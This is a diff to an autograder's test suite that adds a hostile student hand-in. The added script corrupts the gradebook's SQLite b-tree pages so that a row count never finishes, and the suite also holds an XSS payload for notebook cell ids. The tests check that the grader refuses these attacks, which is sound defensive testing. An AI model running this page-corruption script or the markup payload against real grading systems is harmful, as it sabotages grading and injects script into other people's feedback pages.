@@ -12,6 +12,7 @@ A second pass found what the copied gradebook and notebooks could still say:
 - a task cell named like a graded cell, with points of its own (the grader took its cells from that gradebook);
 - a view in place of a table that the grader's own read of the gradebook never finished;
 - rows in the same schema, tens of thousands, that made the grader's read of the gradebook quadratic;
+- a table's pages rewritten to point at one another, which SQLite walked as trillions of rows;
 - markup in a cell id, written into the graded notebook by a helper after nbgrader wrote it, which nbgrader's
   feedback page prints unescaped.
 And what a graded notebook is made of, no code needed: a markdown cell that takes nbconvert minutes to render (the
@@ -118,6 +119,44 @@ db.executemany("insert into grade_cells(id, max_score, cell_type) values (?, 1.0
 db.commit()
 '''
 
+# Pages, not rows: one table (alembic_version, which nbgrader never reads again) rewritten so that each level of its
+# b-tree points every entry at the same page below. A few pages that SQLite walks as 584**5 rows, inside single
+# instructions where no step budget reaches: the grader's row count never came back, and the class waited.
+DAG_ATTACK = r'''
+import sqlite3, struct
+db = "../../../gradebook.db"
+con = sqlite3.connect(db)
+root, = con.execute("select rootpage from sqlite_master where name = 'alembic_version'").fetchone()
+con.close()
+d = bytearray(open(db, "rb").read())
+ps = struct.unpack(">H", d[16:18])[0]
+ps = 65536 if ps == 1 else ps
+n, k = len(d) // ps, (ps - 12) // 7
+
+
+def interior(child):
+    p, top = bytearray(ps), ps - 5 * k
+    p[0] = 5
+    struct.pack_into(">HHHB", p, 1, 0, k, top, 0)
+    struct.pack_into(">I", p, 8, child)
+    for i in range(k):
+        struct.pack_into(">H", p, 12 + 2 * i, top + 5 * i)
+        struct.pack_into(">IB", p, top + 5 * i, child, 1)
+    return bytes(p)
+
+
+pages, child = [bytes(d[(root - 1) * ps:root * ps])], n + 1  # the table's leaf, copied to the end
+for level in range(4):
+    pages.append(interior(child))
+    child = n + 2 + level
+d[(root - 1) * ps:root * ps] = interior(child)
+d += b"".join(pages)
+count = struct.unpack(">I", d[24:28])[0] + 7  # a new change counter: nbgrader's open connection reads it again
+struct.pack_into(">II", d, 24, count, len(d) // ps)
+struct.pack_into(">I", d, 92, count)
+open(db, "r+b").write(bytes(d))
+'''
+
 # A helper in a session of its own lives until nbgrader exits: it rewrites the graded notebook nbgrader just wrote,
 # adding a cell whose grade_id carries markup, which nbgrader's feedback page prints unescaped.
 MARKUP = '"><img src=x onerror="alert(1)"><a x="'
@@ -197,6 +236,7 @@ def graded(tmp_path_factory):
              "pat": _hand_in(slow, PHANTOM_ATTACK.format(aid=AID)),
              "vic": _hand_in(wrong, VIEW_ATTACK),
              "bea": _hand_in(wrong, BLOAT_ATTACK),
+             "dag": _hand_in(wrong, DAG_ATTACK),
              "xena": _hand_in(wrong, XSS_ATTACK.format(nb=f"{AID}.ipynb", markup=MARKUP)),
              "amos": _hand_in(wrong, SHOW_SCRIPT, SLOW_MARKDOWN),  # graded before bob: his page comes after
              "ivy": _hand_in(wrong, IMAGE_OPTIONS),
@@ -256,8 +296,14 @@ def test_a_gradebook_view_that_never_ends_fails_that_hand_in_and_the_class_goes_
 def test_a_gradebook_bloated_with_rows_is_refused_by_counting_them_first(graded):
     r = graded["results"]
     assert r["bea"].cause == "tampered gradebook" and r["bea"].score == 0
-    assert any(re.search(r"holds 82,\d{3} rows, more than grading one hand-in writes", f) for f in r["bea"].flags), \
-        r["bea"].flags
+    assert any(re.search(r"holds more than [\d,]+ rows, more than grading one hand-in writes", f)
+               for f in r["bea"].flags), r["bea"].flags
+
+
+def test_a_gradebook_whose_pages_loop_is_refused_before_anything_walks_it(graded):
+    r = graded["results"]
+    assert r["dag"].cause == "tampered gradebook" and r["dag"].score == 0
+    assert any("the scratch gradebook's file is malformed (On tree page" in f for f in r["dag"].flags), r["dag"].flags
 
 
 def test_markup_in_a_cell_id_never_reaches_a_feedback_page(graded):
